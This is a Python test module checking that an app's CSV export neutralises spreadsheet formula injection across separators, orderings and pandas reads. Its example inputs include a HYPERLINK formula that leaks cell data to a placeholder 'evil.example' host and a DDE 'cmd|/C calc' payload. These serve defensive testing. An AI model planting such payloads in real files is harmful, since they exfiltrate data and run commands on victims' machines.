"""The table holds every answer as it was given, whatever it is, and no spreadsheet takes it for more."""

import base64
import csv
import io
import re
from dataclasses import replace
from datetime import date
from pathlib import Path
from tempfile import TemporaryDirectory

import pandas as pd
import pytest
from answering import Reader
from any_answers import NOW, answers
from hypothesis import example, given, settings
from hypothesis import strategies as st
from markupsafe import Markup

from reconnect_widgets.answers.answer import Answer
from reconnect_widgets.answers.store import Store
from reconnect_widgets.copies.chosen import KINDS, PAGES, Chosen
from reconnect_widgets.copies.making import make_copy
from reconnect_widgets.copies.table import COLUMNS, SEPARATORS, write_table
from reconnect_widgets.rules.record import StoredRecord
from reconnect_widgets.stages import BY_NUMBER
from reconnect_widgets.tools.export import Export

SIGNS = ("=", "+", "-", "@", "＝", "＋", "－", "＠")
FORMULAS = (*SIGNS, "\t", "\r", "\n")
BEGIN = st.sampled_from(["", *FORMULAS, " ", "'", '"', ",", ";", ";=", '\t"=', ',"", -', "|@"])
ANY = st.text(st.characters(exclude_categories=["Cs"]), max_size=40)
said = st.lists(st.builds(str.__add__, BEGIN, ANY), max_size=3).map("".join)
NOTE = Answer(0, "space.name", "", "01", "text", "A few words", {}, "", "v", NOW.date(), NOW, NOW)


def read(text: str, sign: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff")), delimiter=sign))


def unmarked(cell: str) -> str:
    """A cell without the apostrophes that keep it text."""
    return cell.replace("'", "")


@pytest.mark.parametrize("separator", SEPARATORS)
@settings(max_examples=300)
@given(words=said, value=said)
@example(words='=HYPERLINK("http://evil.example?"&A1)', value="@SUM(1+1)*cmd|' /C calc'!A0")
@example(words="a\r\n=1+1", value='"\n=1+1\n"')
@example(words="thanks;=1+1", value='thanks;"=1+1')
@example(words="thanks,=1+1", value="thanks\u2028＝1+1")
def test_any_words_stand_in_one_cell_and_none_begins_a_formula(
    separator: str, words: str, value: str
) -> None:
    made = write_table([replace(NOTE, words=words, value=value)], separator)
    head, row = read(made, SEPARATORS[separator])

    assert tuple(head) == COLUMNS
    assert not any(cell.startswith(FORMULAS) for cell in row)
    assert row[1] == f"01 {BY_NUMBER['01'].title}"
    assert [unmarked(cell) for cell in row[2:]] == [unmarked(words), unmarked(value)]


@pytest.mark.parametrize("separator", SEPARATORS)
@settings(max_examples=300)
@given(value=said)
@example(value="thanks;=1+1")
@example(value='thanks;"=1+1"')
@example(value='thanks;""=1+1')
@example(value="two\tcells\t=1+1\n+2\r@3\x85-4")
def test_a_spreadsheet_that_parts_cells_elsewhere_finds_no_formula_either(
    separator: str, value: str
) -> None:
    made = write_table([replace(NOTE, value=value)], separator).removeprefix("\ufeff")

    for line in made.splitlines():
        for cell in re.split(r"[,;\t|]", line):
            assert not cell.lstrip('" ').startswith(SIGNS), made
            for other in ",;\t|":
                assert not any(
                    one.startswith(SIGNS) for one in next(csv.reader([cell], delimiter=other), [])
                )


@settings(max_examples=40)
@given(st.lists(answers(), max_size=10), st.randoms(use_true_random=False))
def test_whatever_order_they_came_in_the_oldest_stands_first(
    given: list[Answer], order: object
) -> None:
    with TemporaryDirectory() as folder:
        store = Store(Path(folder, "a.sqlite3"))
        store.add(order.sample(given, len(given)))  # type: ignore[attr-defined]
        kept = list(store.every())
        made = make_copy("csv", StoredRecord(store, date(2026, 3, 18)), Chosen(), NOW).decode(
            "utf-8-sig"
        )
        store.close()

    rows = read(made)[1:]

    assert [unmarked(row[3]) for row in rows] == [unmarked(answer.said) for answer in kept]
    assert [row[1][:2] for row in rows] == [answer.page for answer in kept]
    assert [answer.changed_at for answer in kept] == sorted(a.changed_at for a in kept)


@pytest.mark.parametrize("begins", SIGNS)
def test_pandas_reads_what_was_written(begins: str) -> None:
    answer = replace(NOTE, value=f"{begins}1, two")

    frame = pd.read_csv(io.StringIO(write_table([answer])), encoding="utf-8-sig")

    assert frame["answer"].tolist() == [f"'{begins}1, two"]


@pytest.mark.parametrize(("kind", "sign"), [("csv", ","), ("csv-semicolon", ";")])
def test_the_page_offers_both_separators(kind: str, sign: str, reader: Reader) -> None:
    wish = {"type": "make", "kind": kind, "pages": [*PAGES], "kinds": [*KINDS]}

    made = Export().answer(wish, reader.record)

    assert f'value="{kind}"' in str(Export().html((), lambda *_: Markup("")))
    assert made is not None
    assert (made["media"], made["name"][-4:]) == ("text/csv", ".csv")
    assert base64.b64decode(made["data"]).decode("utf-8-sig").startswith(f"when{sign}page")
